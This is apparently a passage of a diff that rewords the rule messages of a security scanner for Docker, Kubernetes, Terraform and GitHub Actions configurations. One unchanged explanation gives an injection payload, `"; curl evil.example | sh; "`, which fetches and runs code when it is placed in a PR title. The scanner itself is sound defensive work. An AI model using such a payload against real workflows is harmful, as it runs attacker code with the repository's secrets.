+   "message": "{name} has no CPU limit. A busy loop in it takes the time of its neighbours.",
+   "why": "A program that spins takes all processor time that its neighbours didn't reserve. Without a limit, a crypto miner goes unnoticed for long.",
    "fix": "Set `resources.limits.cpu` (in Compose `cpus`).",
    "references": [
     "https://kubernetes.io/docs/concepts/configuration/manage-resources-containers/"
@@ -52616,8 +52616,8 @@ export const ruleSet: RuleSet = {
     "KSV-0018",
     "CIS-Docker-5.10"
    ],
-   "message": "`{name}` has no memory limit.",
-   "why": "One program that leaks takes the node's memory, and the kernel kills others for it.",
+   "message": "{name} has no memory limit. A leak in it makes the kernel kill other programs of the node.",
+   "why": "One program that leaks takes the memory of the whole node.",
    "fix": "Set `resources.limits.memory` (in Compose `mem_limit`).",
    "references": [
     "https://kubernetes.io/docs/concepts/configuration/manage-resources-containers/"
@@ -54152,8 +54152,8 @@ export const ruleSet: RuleSet = {
     "network",
     "CIS-Docker-5.13"
    ],
-   "message": "The port {value} of `{name}` is open on every address of the host.",
-   "why": "Without an address a published port listens on all networks that the host has, and past its firewall.",
+   "message": "{name} publishes port {value} on every address of the host. Everyone who reaches the host can connect.",
+   "why": "Without an address a published port listens on all networks of the host and gets past its firewall.",
    "fix": "Name the address: `127.0.0.1:8080:8080`.",
    "references": [
     "https://docs.docker.com/reference/compose-file/services/"
@@ -54245,8 +54245,8 @@ export const ruleSet: RuleSet = {
     "CIS-K8S-5.2.6",
     "CIS-Docker-5.26"
    ],
-   "message": "`{name}` may gain more privileges than it was started with, by a setuid program for instance.",
-   "why": "Unless `allowPrivilegeEscalation` is false, a program in the container can become root through a setuid binary or file capabilities; the kernel's `no_new_privs` flag closes that way. The default is to allow it.",
+   "message": "{name} may gain more privileges than it was started with. A setuid program in it can make an attacker root.",
+   "why": "Unless `allowPrivilegeEscalation` is false, a program in the container can become root through a setuid binary or file capabilities. The default is to allow it.",
    "fix": "Set `allowPrivilegeEscalation: false` (in Compose `security_opt: [no-new-privileges:true]`).",
    "references": [
     "https://kubernetes.io/docs/concepts/security/pod-security-standards/",
@@ -54351,9 +54351,9 @@ export const ruleSet: RuleSet = {
     "CIS-K8S-5.2.2",
     "CIS-Docker-5.4"
    ],
-   "message": "`{name}` runs privileged: it has all capabilities and the host's devices.",
-   "why": "A privileged container is root on the node in all but name: it sees the host's devices, may load kernel modules and mount the host's disk. Whoever breaks into it has the machine.",
-   "fix": "Take `privileged` out, and add the single capability that the program needs.",
+   "message": "{name} runs privileged. An attacker who gets into it controls the host.",
+   "why": "A privileged container is root on the node in all but name. It sees the host's devices, may load kernel modules and mount the host's disk.",
+   "fix": "Remove `privileged`, and add the single capability that the program needs.",
    "references": [
     "https://kubernetes.io/docs/concepts/security/pod-security-standards/",
     "https://cheatsheetseries.owasp.org/cheatsheets/Docker_Security_Cheat_Sheet.html"
@@ -55536,8 +55536,8 @@ export const ruleSet: RuleSet = {
     "CKV_GCP_28",
     "CKV_GCP_73"
    ],
-   "message": "{name} is open to everybody: what lies in it can be read without signing in.",
-   "why": "Buckets and containers that are open to all are found within hours by people who look for nothing else. What was meant as a download folder soon holds an export, a backup or a log with personal data.",
+   "message": "{name} is open to everyone. Anyone on the internet can read its files without signing in.",
+   "why": "Open buckets and containers are found within hours. A download folder soon holds an export, a backup or a log with personal data.",
    "fix": "Keep the bucket private and hand out single objects by signed links, or put a content network with its own access in front.",
    "references": [
     "https://docs.aws.amazon.com/AmazonS3/latest/userguide/access-control-block-public-access.html",
@@ -55709,7 +55709,7 @@ export const ruleSet: RuleSet = {
        "is": true
       }
      ],
-     "message": "{name} lets its containers be opened to everybody.",
+     "message": "{name} lets its containers be opened to everyone.",
      "impact": "medium"
     },
     {
@@ -55726,7 +55726,7 @@ export const ruleSet: RuleSet = {
        "absent": true
       }
      ],
-     "message": "{name} lets its containers be opened to everybody: the provider allows it when nothing is said.",
+     "message": "{name} lets its containers be opened to everyone, since that is the provider's default.",
      "impact": "low"
     },
     {
@@ -58536,9 +58536,9 @@ export const ruleSet: RuleSet = {
     "secrets",
     "KSV-0109"
    ],
-   "message": "`{name}` gets a secret whose value stands in this file.",
-   "why": "Whoever reads the repository has the secret, and so has everybody who may look at the running container: environment variables show up in `inspect`, in crash reports and in child processes.",
-   "fix": "Keep the value in a Secret (Compose: `secrets:`, or a variable without value that comes from outside) and change it, since it has been written down.",
+   "message": "{name} gets a secret that is written in this file (`{key}`). Everyone with access to the repository can use it.",
+   "why": "Environment variables show up in `inspect`, in crash reports and in child processes. A value in this file is in the repository's history, too.",
+   "fix": "Keep the value in a Secret (in Compose `secrets:`, or a variable without a value that comes from outside). Replace the one that was written down.",
    "references": [
     "https://kubernetes.io/docs/concepts/configuration/secret/",
     "https://docs.docker.com/compose/how-tos/use-secrets/"
@@ -58626,9 +58626,9 @@ export const ruleSet: RuleSet = {
     "DS-0031",
     "CIS-Docker-4.10"
    ],
-   "message": "`{key}` stays readable in the image and its history.",
-   "why": "Values of `ENV` are in the image for everybody who can pull it; values of `ARG` are in its history. Taking them out in a later line does not help.",
-   "fix": "Use `RUN --mount=type=secret` for builds, and hand secrets to the running container from outside; change what has been written down.",
+   "message": "`{key}` writes a secret into the image. Everyone who can pull the image can read it.",
+   "why": "Values of `ENV` are in the image, and values of `ARG` are in its history. Removing them in a later line doesn't help.",
+   "fix": "Use `RUN --mount=type=secret` for builds, and pass secrets to the running container from outside. Replace the one that was written down.",
    "references": [
     "https://docs.docker.com/build/building/secrets/"
    ],
@@ -58663,7 +58663,7 @@ export const ruleSet: RuleSet = {
       }
      ],
      "impact": "medium",
-     "message": "`{key}` takes the secret from a build argument into the image, where everybody can read it."
+     "message": "`{key}` takes a secret from a build argument into the image. Everyone who can pull the image can read it."
     },
     {
      "format": "dockerfile",
@@ -58677,7 +58677,7 @@ export const ruleSet: RuleSet = {
       }
      ],
      "impact": "medium",
-     "message": "The build argument `{key}` asks for a secret, which then stays in the image's history."
+     "message": "The build argument `{key}` takes a secret. It stays readable in the image's history."
     }
    ],
    "languages": [
@@ -63858,8 +63858,8 @@ export const ruleSet: RuleSet = {
     "CIS-Docker-4.1",
     "CIS-K8S-5.5.1"
    ],
-   "message": "`{value}` names no version: what runs changes whenever somebody pushes.",
-   "why": "Without a tag, or with `latest`, each pull may bring another image. A build cannot be repeated, a node that restarts runs something else than its neighbour, and a taken over registry account reaches you at once.",
+   "message": "`{value}` names no version. Each pull can bring another image.",
+   "why": "Without a tag, or with `latest`, a build can't be repeated, and a node that restarts runs something else than its neighbour. A stolen registry account reaches you at once.",
    "fix": "Name the version, or better the digest: `image:1.4.2@sha256:…`.",
    "references": [
     "https://kubernetes.io/docs/concepts/containers/images/",
@@ -64030,8 +64030,8 @@ export const ruleSet: RuleSet = {
     "DL3041",
     "DL3062"
    ],
-   "message": "`{value}` is installed in whatever version is the newest on the day of the build.",
-   "why": "The next build may bring another version, with other behaviour or a flaw that yours did not have; nobody can say later what was in the image.",
+   "message": "`{value}` is installed without a version. The next build can bring another one.",
+   "why": "Another version can behave differently or bring a vulnerability that yours didn't have. Later, the image doesn't show what was tested.",
    "fix": "Name the version (`curl=8.5.0-2`, `flask==3.1.0`, `npm@10.9.2`), or install from a lock file.",
    "references": [
     "https://docs.docker.com/build/building/best-practices/"
@@ -64390,8 +64390,8 @@ export const ruleSet: RuleSet = {
     "CKV_GCP_3",
     "CIS-5.2"
    ],
-   "message": "{name} lets the whole internet in, on a port that is not for the public.",
-   "why": "Scanners try every address on the internet for open administration and database ports within minutes, with lists of passwords and fresh exploits. The firewall is what keeps an unpatched service from being a break-in.",
+   "message": "{name} lets the whole internet in on a port that isn't public. Scanners try it within minutes.",
+   "why": "Scanners try every address on the internet for open administration and database ports, with lists of passwords and fresh exploits.",
    "fix": "Name the networks that need the port (an office, a VPN, a load balancer's security group), or reach machines through a session manager or bastion.",
    "references": [
     "https://docs.aws.amazon.com/vpc/latest/userguide/vpc-security-groups.html",
@@ -64846,7 +64846,7 @@ export const ruleSet: RuleSet = {
        ]
       }
      ],
-     "message": "{name} lets the whole internet reach a database or an internal service."
+     "message": "{name} lets the whole internet reach an internal service. Scanners try it within minutes."
     },
     {
      "format": "terraform",
@@ -64894,7 +64894,7 @@ export const ruleSet: RuleSet = {
        ]
       }
      ],
-     "message": "{name} lets the whole internet in; a public service is usually reached on port 443 of a load balancer.",
+     "message": "{name} lets the whole internet in. A public service is usually reached on port 443 of a load balancer.",
      "impact": "medium"
     },
     {
@@ -64939,7 +64939,7 @@ export const ruleSet: RuleSet = {
        ]
       }
      ],
-     "message": "{name} lets the whole internet in, administration ports included.",
+     "message": "{name} lets the whole internet in on every port. That includes the ports of administration.",
      "impact": "medium"
     },
     {
@@ -64974,7 +64974,7 @@ export const ruleSet: RuleSet = {
        "absent": true
       }
      ],
-     "message": "{name} names no source: it lets everybody in.",
+     "message": "{name} names no source, so it lets the whole internet in.",
      "impact": "medium"
     },
     {
@@ -68300,8 +68300,8 @@ export const ruleSet: RuleSet = {
     "permissions",
     "CICD-SEC-5"
    ],
-   "message": "`{name}` does not say what its token may do; the repository's setting decides, often everything.",
-   "why": "Repositories from before 2023 give the token of a workflow the right to write nearly everything unless the workflow says otherwise.",
+   "message": "{name} doesn't set permissions for its token. The repository's setting decides, which is often write access to everything.",
+   "why": "Repositories from before 2023 let the token of a workflow write nearly everything unless the workflow says otherwise.",
    "fix": "Write `permissions: { contents: read }` at the top, and more for the job that needs it.",
    "references": [
     "https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication",
@@ -68359,7 +68359,7 @@ export const ruleSet: RuleSet = {
        "check": "several-jobs"
       }
      ],
-     "message": "Every job gets `{key}: write`; give it to the one that needs it."
+     "message": "`{key}: write` goes to every job. Only one that needs it should have it."
     }
    ],
    "languages": [
@@ -68451,9 +68451,9 @@ export const ruleSet: RuleSet = {
     "CKV_GHA_2",
     "CICD-SEC-4"
    ],
-   "message": "`{value}` is pasted into the script; whoever writes it runs commands here.",
+   "message": "`{value}` is pasted into the script. Anyone who writes that text can run commands in this job.",
    "why": "GitHub puts the value of an expression into the script before the shell sees it. A title such as `\"; curl evil.example | sh; \"` becomes a command, with the workflow's token and secrets.",
-   "fix": "Hand the value over in `env:` and use the variable, quoted: `env: { TITLE: ${{ … }} }` and `\"$TITLE\"`.",
+   "fix": "Pass the value in `env:` and use the variable in quotes: `env: { TITLE: ${{ … }} }` and `\"$TITLE\"`.",
    "references": [
     "https://securitylab.github.com/resources/github-actions-untrusted-input/",
     "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
@@ -68500,7 +68500,7 @@ export const ruleSet: RuleSet = {
      ],
      "impact": "medium",
      "confidence": "medium",
-     "message": "`{value}` is pasted into the script; whoever starts or calls this runs commands here."
+     "message": "`{value}` is pasted into the script. A person or workflow that starts this one can run commands in this job."
     },
     {
      "format": "actions",
@@ -68519,7 +68519,7 @@ export const ruleSet: RuleSet = {
      ],
      "impact": "medium",
      "confidence": "medium",
-     "message": "`{value}` is pasted into the script; whoever starts or calls this runs commands here."
+     "message": "`{value}` is pasted into the script. A person or workflow that starts this one can run commands in this job."
     },
     {
      "format": "actions",
@@ -68534,7 +68534,7 @@ export const ruleSet: RuleSet = {
      ],
      "impact": "low",
      "confidence": "medium",
-     "message": "`{value}` is pasted into the script; the name of a branch or tag may hold commands."
+     "message": "`{value}` is pasted into the script. The name of a branch or tag may hold commands."
     }
    ],
    "languages": [
@@ -68602,9 +68602,9 @@ export const ruleSet: RuleSet = {
     "secrets",
     "CKV_GHA_3"
    ],
-   "message": "`{value}` is pasted into the script, where other processes and error messages can show it.",
+   "message": "`{value}` is pasted into the script. Other processes and error messages can show it.",
    "why": "A command line is visible to every process of the machine, and a character in the secret may change what the shell does. Printed in another form, encoded or cut in two, it is no longer hidden in the log.",
-   "fix": "Hand it over in `env:` and use the variable.",
+   "fix": "Pass it in `env:` and use the variable.",
    "references": [
     "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
    ],
@@ -68641,7 +68641,7 @@ export const ruleSet: RuleSet = {
        "matches": "^[^>]*$"
       }
      ],
-     "message": "A secret is printed into the log."
+     "message": "A secret is printed into the log. Everyone who can read the log can use it."
     },
     {
      "format": "actions",
@@ -68678,9 +68678,9 @@ export const ruleSet: RuleSet = {
     "workflow",
     "secrets"
    ],
-   "message": "`{name}` hands every secret to the workflow that it calls.",
-   "why": "The called workflow, and each action in it, gets secrets that it has no use for. Nobody can tell from here which ones it reads.",
-   "fix": "Hand over the secrets that it needs by name.",
+   "message": "{name} passes every secret to the workflow that it calls. Each action in that workflow can read them.",
+   "why": "The called workflow gets secrets that it has no use for. The caller doesn't show which ones it reads.",
+   "fix": "Pass the secrets that it needs by name.",
    "references": [
     "https://docs.github.com/en/actions/how-tos/reuse-automations/reuse-workflows"
    ],
@@ -68849,8 +68849,8 @@ export const ruleSet: RuleSet = {
     "workflow",
     "secrets"
    ],
-   "message": "The checkout leaves the job's token in `.git/config`, for every later step.",
-   "why": "Every step after it can read the token there, and an uploaded folder takes it along.",
+   "message": "The checkout leaves the job's token in `.git/config`. Every later step can read it.",
+   "why": "Every step after the checkout can read the token, and an uploaded folder takes it along.",
    "fix": "Set `persist-credentials: false` unless the job pushes.",
    "references": [
     "https://github.com/actions/checkout#usage"
@@ -68877,7 +68877,7 @@ export const ruleSet: RuleSet = {
      ],
      "confidence": "high",
      "at": "uses",
-     "message": "The token that the checkout leaves in `.git/config` is uploaded with the folder.",
+     "message": "The checkout leaves the job's token in `.git/config`, and the folder is uploaded. Anyone who downloads it has the token.",
      "fix": {
       "title": "Leave no token",
       "set": "with.persist-credentials",
@@ -68931,9 +68931,9 @@ export const ruleSet: RuleSet = {
     "supply-chain",
     "CICD-SEC-3"
    ],
-   "message": "`{value}` names a tag or branch, which its owner, or a thief of the account, can move.",
+   "message": "`{value}` isn't pinned to a commit. Its owner, or a thief of the account, can move the tag to other code.",
    "why": "The step runs with the job's token and secrets. A tag that is moved to other code reaches every workflow that uses it at its next run, as happened to `tj-actions/changed-files`.",
-   "fix": "Pin to the full commit hash, with the version behind it as a comment; a bot keeps it up to date.",
+   "fix": "Pin to the full commit hash, with the version as a comment behind it. Dependabot keeps it up to date.",
    "references": [
     "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
    ],
@@ -68950,7 +68950,7 @@ export const ruleSet: RuleSet = {
       }
      ],
      "at": "uses",
-     "message": "`{value}` follows a branch: each push to it runs here at once."
+     "message": "`{value}` follows a branch. Each push to it runs here at once."
     },
     {
      "format": "actions",
@@ -69353,9 +69353,9 @@ export const ruleSet: RuleSet = {
     "workflow",
     "CICD-SEC-4"
    ],
-   "message": "Code of a pull request is checked out in a workflow that has your secrets and a token that may write.",
-   "why": "`pull_request_target`, `workflow_run` and `issue_comment` run in the name of your repository. What the pull request brings, a build script, a test, a package's install hook, runs with those rights.",
-   "fix": "Use `pull_request`; or part the work in two: an unprivileged workflow that builds, and one that only reads its results.",
+   "message": "A workflow with your secrets checks out code of a pull request. That code can read the secrets and write to the repository.",
+   "why": "`pull_request_target`, `workflow_run` and `issue_comment` run in the name of your repository. A build script, a test or an install hook of the pull request runs with those rights.",
+   "fix": "Use `pull_request`. Or split the work: one workflow without secrets builds, and another one reads its results.",
    "references": [
     "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
     "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
@@ -69494,7 +69494,7 @@ export const ruleSet: RuleSet = {
      ],
      "impact": "medium",
      "confidence": "medium",
-     "message": "The called workflow is handed the code of a pull request, in a workflow that has your secrets and a token that may write."
+     "message": "A workflow with your secrets passes code of a pull request to the workflow that it calls. That code can read the secrets and write to the repository."
     }
    ],
    "languages": [
@@ -69751,8 +69751,8 @@ export const ruleSet: RuleSet = {
     "KSV-0014",
     "CIS-Docker-5.12"
    ],
-   "message": "`{name}` may change the files of its own image.",
-   "why": "On a writable filesystem whoever breaks in can replace programs and leave tools behind. A read-only one takes that away; what must be written goes to a volume.",
+   "message": "{name} may change the files of its own image. An attacker in it can replace programs.",
+   "why": "A read-only filesystem leaves an attacker no place to keep tools. Files that must be written go to a volume.",
    "fix": "Set `readOnlyRootFilesystem: true` (in Compose `read_only: true`), and mount an `emptyDir` or `tmpfs` where the program writes.",
    "references": [
     "https://kubernetes.io/docs/concepts/security/pod-security-standards/",
